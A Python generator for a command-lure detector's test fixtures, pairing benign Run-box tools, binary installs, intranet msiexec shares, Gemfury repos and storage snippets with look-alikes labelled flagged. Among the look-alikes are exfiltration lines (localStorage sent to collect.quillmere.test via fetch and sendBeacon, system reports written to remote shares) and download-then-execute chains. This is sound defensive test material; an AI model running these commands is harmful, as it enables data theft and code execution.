"""Writes tests/data/cases/b7benign.jsonl: entries a person types into the Run box, installers
copied from their own project's page, an organisation's own deployment commands and console
snippets that were warned about although nothing in them is a lure, each beside the look-alikes
that must stay flagged or blocked.

    python tests/data/cases/make_b7benign.py

Deterministic. Names are made up; lure hosts are reserved names (*.test, *.example, documentation
addresses). No text is copied from a blind set, a lure collection or another detector's
fixtures. Each line is {id, text, expect, technique, platform, source, target}.

Principles:

- `run-box-tool`: Windows' own management tools typed (no source) with the switches of
  resources/runbox.yaml, which only open a console (for this computer or another by name),
  select a file in Explorer or write a report to a file here, are a user's own entry.
  Look-alikes: the same written by a page or a mail (a command in the Run box: blocked), a
  report written to a share, a WebDAV path or an address, a console from a share, a path or an
  address (GrimResource / MSC EvilTwin), a console that is not Windows' own, a switch that
  changes settings or deletes files, a switch twice, an extra word, a chain, a script host, a
  variable that can name another computer's share.
- `copy-in-no-run`: a release binary copied into a folder (sudo curl -o /usr/local/bin/x …)
  and made executable, owned or listed, with nothing that starts it: sudo, doas, nohup, env …
  start the command written after them, not each of its words (sudo chmod +x x runs chmod).
  Look-alikes: the copy started by its path, by sudo -u, nohup, exec, env, doas, setsid, nice,
  a shell given it, or by its bare name once it is on the search path; a stranger's copy from
  another computer (scp) and started.
- `own-share`: an organisation's intranet page installing from a share on its own domain
  (msiexec /i \\\\deploy.<its domain>\\apps\\x.msi /qn, a DFS root \\\\<its domain>\\…).
  Look-alikes: the same from a stranger's page or over plain HTTP, a share at an address, over
  WebDAV, on another organisation's or a look-alike domain, on a tunnel; one stranger's share
  beside the own one; the Run box.
- `own-package-account`: a project's README adding its own Gemfury repository
  (apt.fury.io/<account>/) without a signature check ([trusted=yes]): a weakness,
  not a lure, from its own page. Look-alikes: another account's repository, a stranger's page,
  a tutorial, the project's issues, plain HTTP, a fake check page.
- `storage-lengths`: a console snippet listing the keys a site saved and each value's length,
  their count or their total size (documentation pages). Look-alikes: the entries or values
  printed whole, joined, copied, sent, or handed to a callback that uses each value.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b7benign.jsonl")
RUN = "run_dialog"
BAR = "explorer_bar"
HELP_PAGE = "https://support.harrowfield.example/kb/disk-tools"
STRANGER = "https://www.quillmere-bakery.example/verify/step2"
MAIL = "outlook"
TERMINAL = "terminal"
TUTORIAL = "https://www.shellnotes.example/how-to-install-tarnwick-on-debian/"

SNAPINS = ["compmgmt", "fsmgmt", "services", "eventvwr", "lusrmgr", "devmgmt", "taskschd"]
COMPUTERS = ["fs02", r"\\ws-0412", "srv-db01.corp.example", r"\\print01.ad.example", "10.20.1.7"]
LOCAL_FILES = [
    r"%USERPROFILE%\Desktop\report.txt",
    r"C:\Temp\dx.txt",
    r'"%USERPROFILE%\Documents\Support files\dxdiag.txt"',
    r"%TEMP%\sysinfo.nfo",
    r"D:\logs\diag.xml",
    r"%PUBLIC%\Documents\diag.txt",
]

TYPED_TOOLS = [
    *(f"{name}.msc /computer={computer}" for name in SNAPINS for computer in COMPUTERS[:2]),
    *(
        f"{name}.msc /computer={computer}"
        for name, computer in zip(SNAPINS, COMPUTERS[2:] * 3, strict=False)
    ),
    r"compmgmt.msc /computer:\\hr-laptop-11",
    "mmc compmgmt.msc /computer=fs03",
    r"MMC.exe services.msc /computer=\\app07",
    "eventvwr.msc /s",
    "gpedit.msc /a",
    "certmgr.msc /64",
    "devmgmt.msc /32",
    "Services.msc /S",
    "diskmgmt.msc /computer=nas01 /s",
    r"dxdiag /t %USERPROFILE%\Desktop\dxdiag.txt",
    r"dxdiag.exe /x C:\Temp\dx.xml",
    r'dxdiag /t "%USERPROFILE%\Documents\Support files\dxdiag.txt"',
    r"dxdiag /whql:off /t %TEMP%\dx.txt",
    r"dxdiag /64bit /dontskip /t D:\logs\dx.txt",
    r"DXDIAG /T C:\Users\sam\Desktop\dx.txt",
    r"msinfo32 /report %USERPROFILE%\Desktop\sysinfo.txt",
    r"msinfo32 /nfo C:\Temp\machine.nfo",
    "msinfo32 /computer ws-0413",
    r"msinfo32.exe /computer \\ws-0414",
    "cleanmgr /sageset:1",
    "cleanmgr /sageset:65",
    "cleanmgr /d C",
    "cleanmgr.exe /d D: /sageset:11",
    r"explorer.exe /select,%USERPROFILE%\Downloads",
    r"explorer /select,C:\Windows\System32\drivers\etc\hosts",
    r'explorer /select,"C:\Users\sam\My Projects\notes.txt"',
    r"explorer.exe /select,%LOCALAPPDATA%\Temp\setup.log",
    "explorer /select,D:\\Photos\\2024\\",
]

# (text, expect): typed into the Run box (no source), these are still commands
TYPED_LOOKALIKES = [
    # a report written to another computer: this computer's details leave it
    (r"dxdiag /t \\files.quillmere.example\drop\dx.txt", "flagged"),
    (r"dxdiag /x \\203.0.113.9@SSL\DavWWWRoot\dx.xml", "flagged"),
    (r"msinfo32 /report \\198.51.100.4\c$\s.txt", "flagged"),
    (r"msinfo32 /nfo https://collect.quillmere.example/up", "flagged"),
    (r"dxdiag /t %LOGONSERVER%\netlogon\dx.txt", "flagged"),
    (r"dxdiag /t %HOMESHARE%\dx.txt", "flagged"),
    (r"dxdiag /t //files.quillmere.example/drop/dx.txt", "flagged"),
    # a console loaded from elsewhere or not Windows' own (its scripts run: T1218.014)
    (r"mmc \\files.quillmere.example\share\compmgmt.msc", "flagged"),
    (r"mmc \\203.0.113.20@SSL\DavWWWRoot\console.msc /computer=fs02", "flagged"),
    (r"\\files.quillmere.example\tools\services.msc /computer=fs02", "flagged"),
    (r"mmc C:\Users\Public\Downloads\invoice.msc /a", "flagged"),
    (r"mmc %TEMP%\compmgmt.msc /s", "flagged"),
    ("mmc https://cdn.quillmere.example/mgmt.msc", "flagged"),
    ("invoice.msc /computer=fs02", "flagged"),
    ("compmgmt.msc /computer=fs02 /computer=fs03", "flagged"),
    (r"compmgmt.msc /computer=\\fs02\c$\x", "flagged"),
    (r"compmgmt.msc /computer=\\files.test@SSL\DavWWWRoot", "flagged"),
    ("compmgmt.msc /computer=fs02 calc", "flagged"),
    ("compmgmt.msc /computer=fs02 & calc", "flagged"),
    ("eventvwr.msc /s /s", "flagged"),
    # switches that change settings or delete files, or are not the tool's own
    ("cleanmgr /setup", "flagged"),
    ("cleanmgr /verylowdisk", "flagged"),
    ("cleanmgr /sageset:1234567", "flagged"),
    (r'control intl.cpl,,/f:"%TEMP%\region.xml"', "flagged"),
    (r"dxdiag /t C:\Temp\a.txt /t C:\Temp\b.txt", "flagged"),
    (r"dxdiag /t", "flagged"),
    (r"dxdiag /t C:\Temp\a.txt C:\Temp\b.txt", "flagged"),
    (r"msinfo32 /report C:\Temp\a.txt /categories +all", "flagged"),
    # Explorer opening (running) a file, or a chain of its switches
    (r"explorer C:\Users\Public\Downloads\invoice.hta", "flagged"),
    (r"explorer /select,C:\Temp\a.txt,/root,\\files.quillmere.example\drop", "flagged"),
    (r"explorer /select,\\files.quillmere.example\drop\a.lnk", "flagged"),
    (r"explorer /e,C:\Temp\run.hta", "flagged"),
    (r'explorer /select,"C:\Temp\a.txt" C:\Temp\b.hta', "flagged"),
    # script hosts never take a tool's switches
    (r"mshta /s", "flagged"),
    (r"rundll32 /t C:\Temp\a.txt", "flagged"),
    (r"regsvr32 /s C:\Users\Public\x.dll", "flagged"),
    (r"msiexec /x C:\Temp\a.msi", "flagged"),
    (r'powershell /t "C:\Temp\a.txt"', "flagged"),
]


# Of those, Disk Cleanup's list of what to clean (/sageset: nothing is deleted until /sagerun),
# which runbox.yaml `pages` takes from any page since design16's weighing: a page gains nothing.
PAGE_SAFE = frozenset({"cleanmgr /sageset:1", "cleanmgr /sageset:65", "cleanmgr /d C",
                       "cleanmgr.exe /d D: /sageset:11"})  # fmt: skip
# Since b18benign's weighing (2026-12-07 afternoon, runbox.yaml `opens`): what a program
# name, a path or an address would open anyway, given to the program that opens it, is
# taken like one of them whoever wrote it, a page or a mail included.
# Here: consoles in one of their modes or on a computer of the local network, a report written
# to a text file here, Explorer selecting something here.
PAGE_SAFE |= frozenset({
    "compmgmt.msc /computer=fs02", "services.msc /computer=fs02", "lusrmgr.msc /computer=fs02",
    "taskschd.msc /computer=fs02", "services.msc /computer=10.20.1.7", "eventvwr.msc /s",
    "Services.msc /S", r'dxdiag /t "%USERPROFILE%\Documents\Support files\dxdiag.txt"',
    r"msinfo32 /report %USERPROFILE%\Desktop\sysinfo.txt", r"explorer.exe /select,%USERPROFILE%\Downloads",
    "explorer /select,D:\\Photos\\2024\\", r"compmgmt.msc /computer=\\ws-0412", "devmgmt.msc /computer=fs02",
    "devmgmt.msc /computer=10.20.1.7", r"msinfo32 /nfo C:\Temp\machine.nfo",
    r'explorer /select,"C:\Users\sam\My Projects\notes.txt"',
})  # fmt: skip


def run_box_tool(book: Book) -> None:
    for i, text in enumerate(TYPED_TOOLS):
        book.add("run-box-tool", text, "not_flagged", "windows", BAR if i % 5 == 4 else RUN)
    lure = "run-box-tool-lure"
    for text, expect in TYPED_LOOKALIKES:
        book.add(lure, text, expect, "windows", RUN)
    # the same entries written by a page or a mail: a command in the Run box
    for i, text in enumerate(TYPED_TOOLS[::4]):
        page = (HELP_PAGE, STRANGER)[i % 2]
        expect = "not_flagged" if text in PAGE_SAFE else "malicious"
        book.add(lure, text, expect, "windows", RUN if i % 3 else BAR, page)
    for text in TYPED_TOOLS[1::9]:
        book.add(
            lure, text, "not_flagged" if text in PAGE_SAFE else "flagged", "windows", RUN, MAIL
        )


# (tool, its own docs page, a download host of another name) of long-tail projects
RELEASES = [
    ("tarnwick", "https://docs.tarnwick.dev/install", "releases.quorvane-cdn.example"),
    ("loamctl", "https://loamdb.io/docs/cli", "dl.brindle-assets.example"),
    ("fenwick", "https://github.com/fenwick-tools/fenwick", "objects.pelletstore.example"),
]
COPY_SHAPES = [
    "sudo curl -fL https://{h}/v2.4.1/{t}-linux-amd64 -o /usr/local/bin/{t}\n"
    "sudo chmod a+x /usr/local/bin/{t}",
    "sudo wget -qO /usr/local/bin/{t} https://{h}/latest/{t}_linux_x86_64 && "
    "sudo chmod 755 /usr/local/bin/{t}",
    "sudo curl -sSLo /usr/local/bin/{t} https://{h}/{t}-darwin-arm64; sudo chmod +x /usr/local/bin/{t}",
    "sudo -E curl --fail -L https://{h}/v1/{t} -o /usr/local/bin/{t} && sudo chown root:root "
    "/usr/local/bin/{t} && sudo chmod 0755 /usr/local/bin/{t}",
    "curl -Lo ~/.local/bin/{t} https://{h}/v3/{t}-linux && chmod u+x ~/.local/bin/{t}",
    "doas curl -o /usr/local/bin/{t} https://{h}/{t}-openbsd && doas chmod +x /usr/local/bin/{t}",
    "sudo curl -fsSL https://{h}/{t}.tar.gz -o /opt/{t}.tar.gz && sudo tar -xzf /opt/{t}.tar.gz "
    "-C /opt && ls -l /opt/{t}",
]
# (text shape, expect): something starts the copy
COPY_RUN_SHAPES = [
    (
        "sudo curl -fL https://{h}/{t} -o /usr/local/bin/{t} && sudo chmod +x /usr/local/bin/{t} "
        "&& sudo /usr/local/bin/{t} daemon",
        "flagged",
    ),
    (
        "sudo curl -fL https://{h}/{t} -o /tmp/{t} && sudo chmod +x /tmp/{t} && sudo -u root "
        "/tmp/{t}",
        "flagged",
    ),
    (
        "sudo wget -qO /tmp/{t} https://{h}/{t} && sudo chmod 755 /tmp/{t} && nohup /tmp/{t} &",
        "flagged",
    ),
    ("sudo curl -fL https://{h}/{t}.sh -o /tmp/{t}.sh && sudo bash /tmp/{t}.sh", "flagged"),
    (
        "sudo curl -fL https://{h}/{t} -o /usr/local/bin/{t} && sudo chmod +x /usr/local/bin/{t} "
        "&& {t} serve --port 8080",
        "flagged",
    ),
    (
        "curl -Lo ~/.local/bin/{t} https://{h}/{t} && chmod +x ~/.local/bin/{t} && {t} init",
        "flagged",
    ),
]
COPY_PEERS = [
    (
        "scp build@203.0.113.7:/srv/agent /tmp/agent && chmod +x /tmp/agent && sudo /tmp/agent",
        "flagged",
    ),
    (
        "scp build@203.0.113.7:/srv/agent /tmp/agent && chmod +x /tmp/agent && sudo env A=1 "
        "/tmp/agent",
        "flagged",
    ),
    ("scp ops@198.51.100.3:/pub/a /tmp/a && chmod +x /tmp/a && exec /tmp/a", "flagged"),
    ("scp ops@198.51.100.3:/pub/a /tmp/a && chmod +x /tmp/a && doas -u root /tmp/a", "flagged"),
    ("scp ops@198.51.100.3:/pub/a /tmp/a && chmod +x /tmp/a && setsid /tmp/a", "flagged"),
    ("scp ops@198.51.100.3:/pub/a /tmp/a && chmod +x /tmp/a && nice -n 10 /tmp/a", "flagged"),
    ("scp ops@198.51.100.3:/pub/a.sh /tmp/a.sh && sudo sh /tmp/a.sh", "flagged"),
]


def copy_in_no_run(book: Book) -> None:
    for tool, page, host in RELEASES:
        for shape in COPY_SHAPES:
            text = shape.format(t=tool, h=host)
            book.add("copy-in-no-run", text, "not_flagged", "linux", TERMINAL, page)
    book.add("copy-in-no-run", COPY_SHAPES[0].format(t="tarnwick", h=RELEASES[0][2]),
             "not_flagged", "linux", TERMINAL)  # fmt: skip
    book.add(
        "copy-in-no-run",
        "scp build@203.0.113.7:/srv/agent /tmp/agent && sudo chmod +x /tmp/agent",
        "not_flagged",
        "linux",
        TERMINAL,
    )
    lure = "copy-in-then-run"
    for i, (shape, expect) in enumerate(COPY_RUN_SHAPES):
        tool, page, host = RELEASES[i % len(RELEASES)]
        book.add(lure, shape.format(t=tool, h=host), expect, "linux", TERMINAL, STRANGER)
        book.add(lure, shape.format(t=tool, h=host), expect, "linux", TERMINAL)
    for text, expect in COPY_PEERS:
        book.add(lure, text, expect, "linux", TERMINAL)


# (intranet page, share host) of organisations
ORGS = [
    ("https://wiki.contoso.example/it/software-deploy", "deploy.contoso.example"),
    ("https://confluence.fabrikam.example/display/IT/Packages", "swdist.fabrikam.example"),
    ("https://intranet.northwind.example/help/install-7zip", "northwind.example"),
    ("https://it.tailspin.example/kb/agent", "sccm.ad.tailspin.example"),
]
SHARE_SHAPES = [
    r"msiexec /i \\{h}\apps\7zip\7z2409-x64.msi /qn /norestart",
    r'msiexec.exe /i "\\{h}\Software$\Notepad++\npp.8.6.x64.msi" /quiet',
    r"msiexec /package \\{h}\pkgs\agent-4.2.msi /passive /l*v %TEMP%\agent.log",
    r"msiexec /i \\{h}\dfs\office\teams.msi ALLUSERS=1 /qn",
]


def own_share(book: Book) -> None:
    for page, host in ORGS:
        for shape in SHARE_SHAPES:
            book.add("own-share", shape.format(h=host), "not_flagged", "windows", TERMINAL, page)
    page, host = ORGS[0]
    lure = "share-stranger"
    # a stranger's page, or the intranet's page over plain HTTP
    book.add(lure, SHARE_SHAPES[0].format(h=host), "flagged", "windows", TERMINAL, STRANGER)
    book.add(lure, SHARE_SHAPES[0].format(h=host), "flagged", "windows", TERMINAL,
             page.replace("https://", "http://"))  # fmt: skip
    for other in (
        "203.0.113.5",
        "deploy.contoso.example@SSL",
        "deploy.contoso.example@8443",
        "swdist.fabrikam.example",
        "deploy.contoso-it.example",
        "contoso.example.files-cdn.test",
        "deploy-contoso.trycloudflare.com@SSL",
        "files.corp.quillmere.test",
        "nas.local.quillmere.test",
        "files.quillmere.ad",
    ):
        book.add(lure, SHARE_SHAPES[0].format(h=other), "flagged", "windows", TERMINAL, page)
    book.add(
        lure,
        SHARE_SHAPES[0].format(h=host) + " & " + SHARE_SHAPES[2].format(h="files.quillmere.test"),
        "flagged",
        "windows",
        TERMINAL,
        page,
    )
    for target in (RUN, BAR):
        book.add(lure, SHARE_SHAPES[0].format(h=host), "malicious", "windows", target, page)
    # a computer of the local network by its plain name: the organisation's own, from any page
    for local in ("fs01.corp", "deploy01.local", "swdist.intranet"):
        book.add("own-share", SHARE_SHAPES[1].format(h=local), "not_flagged", "windows",
                 TERMINAL, ORGS[1][0])  # fmt: skip


FURY_PROJECTS = [
    ("https://github.com/tarnwick-labs/tarnwick", "tarnwick-labs", "tarnwick-cli"),
    ("https://github.com/loamhq/loamdb", "loamhq", "loamdb"),
    ("https://gitlab.com/fenwick-tools/fenwick", "fenwick-tools", "fenwick"),
    ("https://docs.brindle.cloud/install/linux", "brindle", "brindle"),
]
FURY_SHAPES = [
    'echo "deb [trusted=yes] https://apt.fury.io/{a}/ /" | sudo tee '
    "/etc/apt/sources.list.d/{p}.list\nsudo apt update\nsudo apt install {p}",
    "echo 'deb [trusted=yes] https://apt.fury.io/{a}/ /' | sudo tee -a /etc/apt/sources.list "
    "&& sudo apt-get update && sudo apt-get install -y {p}",
    'sudo sh -c \'echo "deb [trusted=yes] https://apt.fury.io/{a}/ /" > '
    "/etc/apt/sources.list.d/fury.list'\nsudo apt-get update && sudo apt-get install {p}",
    'echo "deb [arch=amd64 trusted=yes] https://apt.fury.io/{a}/ /" | sudo tee '
    "/etc/apt/sources.list.d/{a}.list > /dev/null\nsudo apt-get update -qq\n"
    "sudo apt-get install --yes {p}",
]


def own_package_account(book: Book) -> None:
    for page, account, package in FURY_PROJECTS:
        for shape in FURY_SHAPES:
            text = shape.format(a=account, p=package)
            book.add("own-package-account", text, "not_flagged", "linux", TERMINAL, page)
    lure = "package-account-stranger"
    page, account, package = FURY_PROJECTS[0]
    text = FURY_SHAPES[0].format(a=account, p=package)
    for other in (
        STRANGER,
        TUTORIAL,
        "https://github.com/tarnwick-labs/tarnwick/issues/412",
        "https://github.com/loamhq/loamdb",
        "https://verify-human.pages.example/captcha/step2",
    ):
        book.add(lure, text, "flagged", "linux", TERMINAL, other)
    book.add(lure, text, "flagged", "linux", TERMINAL)
    book.add(lure, FURY_SHAPES[0].format(a="quorvane", p=package), "flagged", "linux", TERMINAL,
             page)  # fmt: skip
    book.add(lure, text.replace("https://", "http://"), "flagged", "linux", TERMINAL, page)


CONSOLE = "browser_console"
DOC_PAGES = [
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/sessionStorage",
    "https://web.dev/articles/storage-for-the-web",
    "https://blog.quillix.app/posts/debugging-storage-quota",
]
LENGTH_SNIPPETS = [
    "console.log(Object.entries(localStorage).map(([key, val]) => key + ' (' + val.length + "
    "' bytes)').join(', '))",
    "Object.entries(sessionStorage).forEach(([key, value]) => console.log(key, value.length))",
    "Object.values(localStorage).reduce((total, v) => total + v.length, 0)",
    "console.log(Object.values(window.localStorage).length)",
    "console.table(Object.entries(localStorage).map(([k, v]) => ({{ key: k, bytes: v?.length }})))",
    "Object.entries(localStorage).map(([k]) => k).sort()",
    "Object.entries(localStorage)\n  .map(([name, data]) => [name, data.length])\n"
    "  .sort((a, b) => b[1] - a[1])",
    "Object.entries(sessionStorage).forEach(function ([k, v]) {{ console.log(k, v.length) }})",
]
WHOLE_SNIPPETS = [
    "console.log(Object.entries(localStorage))",
    "copy(JSON.stringify(Object.entries(localStorage)))",
    "Object.entries(localStorage).forEach(([k, v]) => console.log(k, v))",
    "Object.entries(sessionStorage).map(([k, v]) => `${{k}}=${{v}}`).join('\\n')",
    "Object.values(localStorage).join('|')",
    "Object.entries(localStorage).map(([k, v]) => k + ':' + v.length + ':' + v)",
    "console.log(JSON.stringify(Object.entries(window.sessionStorage), null, 2))",
    "Object.entries(localStorage).forEach(e => console.log(e))",
    "Object.values(sessionStorage).forEach(v => console.log(v))",
    "Object.entries(localStorage).forEach(function ([k, v]) {{ navigator.sendBeacon("
    "'https://collect.quillmere.test/b', k + v) }})",
    "fetch('https://collect.quillmere.test/x', {{method: 'POST', body: JSON.stringify("
    "Object.entries(localStorage))}})",
]
SUPPORT_PAGE = "https://account-help.quillmere.test/support/chat"


def storage_lengths(book: Book) -> None:
    for i, snippet in enumerate(LENGTH_SNIPPETS):
        text = snippet.format()
        book.add("storage-lengths", text, "not_flagged", "any", CONSOLE, DOC_PAGES[i % 3])
        book.add("storage-lengths", text, "not_flagged", "any", CONSOLE)
    for snippet in WHOLE_SNIPPETS:
        text = snippet.format()
        book.add("storage-dump", text, "flagged", "any", CONSOLE, SUPPORT_PAGE)
        book.add("storage-dump", text, "flagged", "any", CONSOLE, DOC_PAGES[0])


def build() -> list[dict[str, str]]:
    book = Book("b7b")
    run_box_tool(book)
    copy_in_no_run(book)
    own_share(book)
    own_package_account(book)
    storage_lengths(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
